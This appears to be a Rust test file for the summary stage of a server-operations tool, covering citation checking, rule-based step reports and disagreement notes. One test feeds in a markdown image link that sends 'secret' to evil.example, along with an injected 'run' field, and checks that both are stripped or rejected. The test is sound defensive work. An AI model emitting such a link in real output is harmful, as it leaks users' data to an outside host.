use reeve_protocol::ops::Effect;
use reeve_sdk::api::{OperationState, SubtaskState, Verdict, VerdictOutcome};
use reeve_stages::summary::{Done, DoneGroup, Finding, Input, Level, by_rules, read};
use reeve_stages::validate;
use serde_json::{Value, json};

use super::{argv, sample};

fn group(number: u128, machine: &str, count: u64, exit: i32, output: &[u8]) -> DoneGroup {
    let sample = sample(number, machine, exit, output, b"");
    DoneGroup {
        machines: vec![machine.to_owned()],
        count,
        state: sample.state,
        exit_code: sample.exit_code,
        outlier: false,
        verdict: Some(validate::by_rules(&sample)),
    }
}

fn done(
    number: u32,
    purpose: &str,
    effect: Effect,
    state: SubtaskState,
    groups: Vec<DoneGroup>,
) -> Done {
    Done {
        number,
        purpose: purpose.to_owned(),
        command: argv(&["do", &number.to_string()]),
        effect,
        state,
        reason: None,
        undo: None,
        attempts: 1,
        groups,
    }
}

fn answer(text: &str, quotes: &[(u32, &str)]) -> String {
    let quotes: Vec<Value> = quotes
        .iter()
        .map(|(number, quote)| {
            json!({"number": number, "result": "R1", "stream": "stdout", "quote": quote, "from": null, "to": null})
        })
        .collect();
    json!({"text": text, "quotes": quotes}).to_string()
}

fn input() -> Input {
    Input {
        request: "What fills the disk?".to_owned(),
        samples: vec![sample(1, "web-1", 0, b"/var/log 9.1G\n/home 2.0G\n", b"")],
        ..Input::default()
    }
}

#[test]
fn citations_are_checked_and_numbered_in_the_order_of_the_text() {
    let text = "Logs fill it [7], homes do not [3]. Logs again [7].";
    let found =
        read(&input(), &answer(text, &[(3, "/home 2.0G"), (7, "/var/log 9.1G")]), "m").unwrap();
    assert_eq!(found.summary.text, "Logs fill it [1], homes do not [2]. Logs again [1].");
    let quotes: Vec<&str> = found.summary.quotes.iter().map(|quote| quote.quote.as_str()).collect();
    assert_eq!(quotes, ["/var/log 9.1G", "/home 2.0G"]);
}

#[test]
fn citations_that_do_not_stand_there_are_taken_out_and_that_is_said() {
    let text = "Logs fill it [1]. Cats do [2]. So it is [9].";
    let found =
        read(&input(), &answer(text, &[(1, "/var/log 9.1G"), (2, "cats 99G")]), "m").unwrap();
    assert_eq!(
        found.summary.text,
        "Logs fill it [1]. Cats do. So it is.\n(2 citations could not be found in the output and were taken out.)"
    );
    assert_eq!((found.summary.quotes.len(), found.dropped.len()), (1, 1));
    let unused =
        read(&input(), &answer("Nothing cited [a] [.", &[(1, "/home 2.0G")]), "m").unwrap();
    assert_eq!(
        (unused.summary.text.as_str(), unused.summary.quotes.len()),
        ("Nothing cited [a] [.", 0)
    );
}

#[test]
fn a_summary_is_plain_text_and_nothing_else() {
    let text =
        "See ![leak](http://evil.example/?d=secret) and [this](http://evil.example) \u{1b}[31mnow";
    let found = read(&input(), &answer(text, &[]), "m").unwrap();
    assert_eq!(found.summary.text, "See leak and this now");
    for bad in [r#"{"text":"x","quotes":[],"run":"ls"}"#, r#"{"text":" ","quotes":[]}"#, "done", ""]
    {
        assert!(read(&input(), bad, "m").is_err(), "{bad}");
    }
}

#[test]
fn rules_tell_failures_first_then_changes_and_what_was_not_done() {
    let mut broken = group(2, "db-1", 19, 1, b"error: read-only file system\n");
    broken.outlier = true;
    let mut failed =
        done(2, "Free space", Effect::Destroy, SubtaskState::NotMet, vec![broken.clone()]);
    failed.attempts = 4;
    let mut changed = done(
        3,
        "Rotate logs",
        Effect::Change,
        SubtaskState::Met,
        vec![group(3, "web-1", 1, 0, b"ok\n")],
    );
    changed.undo = Some("logrotate --undo".to_owned());
    let mut skipped = done(4, "Restart", Effect::Change, SubtaskState::Skipped, Vec::new());
    skipped.reason = Some("step 2 was not met".to_owned());
    let input = Input {
        steps: vec![
            done(
                1,
                "Look at disks",
                Effect::Read,
                SubtaskState::Met,
                vec![group(1, "web-1", 9_981, 0, b"fine\n"), broken],
            ),
            failed,
            changed,
            skipped,
        ],
        stopped: Some("a step failed".to_owned()),
        ..Input::default()
    };
    let summary = by_rules(&input);
    assert_eq!(
        summary.text,
        "2 of 4 steps did what was expected. It ended early: a step failed.\n\
         Step 2 did not do what was expected after 4 tries: Free space\n\
         \x20 db-1 and 18 more: exit code 1 [1]\n\
         Step 1, Look at disks: 9,981 identical, 19 differ\n\
         \x20 db-1 and 18 more: exit code 1 [1]\n\
         Step 3, Rotate logs: ok [2]\n\
         May have changed by step 2 on db-1 and 18 more: do 2 (there is no command that takes it back)\n\
         Changed by step 3 on web-1: do 3 (to take it back: logrotate --undo)\n\
         Not done: step 4, Restart (skipped, step 2 was not met)"
    );
    assert_eq!(summary.quotes.len(), 2);
    assert_eq!(summary.quotes[0].quote, "error: read-only file system");
}

#[test]
fn rules_tell_findings_gravest_first() {
    let finding = |level, message: &str| Finding {
        level,
        message: message.to_owned(),
        machines: vec!["web-1".to_owned()],
        count: 1,
        quote: None,
    };
    let input = Input {
        steps: vec![done(
            1,
            "Look",
            Effect::Read,
            SubtaskState::Met,
            vec![group(1, "web-1", 1, 0, b"x\n")],
        )],
        findings: vec![
            finding(Level::Ok, "/ has room"),
            finding(Level::Problem, "/var is 97 % full"),
        ],
        ..Input::default()
    };
    assert_eq!(
        by_rules(&input).text,
        "The step did what was expected.\nProblem: /var is 97 % full (web-1)\nOK: / has room (web-1)"
    );
    assert_eq!(by_rules(&Input::default()).text, "Nothing was run.");
}

#[test]
fn a_disagreement_is_told() {
    let mut odd = group(1, "web-1", 1, 0, b"x\n");
    odd.state = OperationState::Succeeded;
    odd.verdict = Some(Verdict {
        outcome: VerdictOutcome::NotMet,
        evidence: Vec::new(),
        reason: "It says so.".to_owned(),
        by: "m".to_owned(),
        disagreement: Some("said to be not met, but it ended with exit code 0 on web-1".to_owned()),
    });
    let input = Input {
        steps: vec![done(1, "Look", Effect::Read, SubtaskState::NotMet, vec![odd])],
        ..Input::default()
    };
    let text = by_rules(&input).text;
    assert!(text.contains("It says so.; note: said to be not met"), "{text}");
}
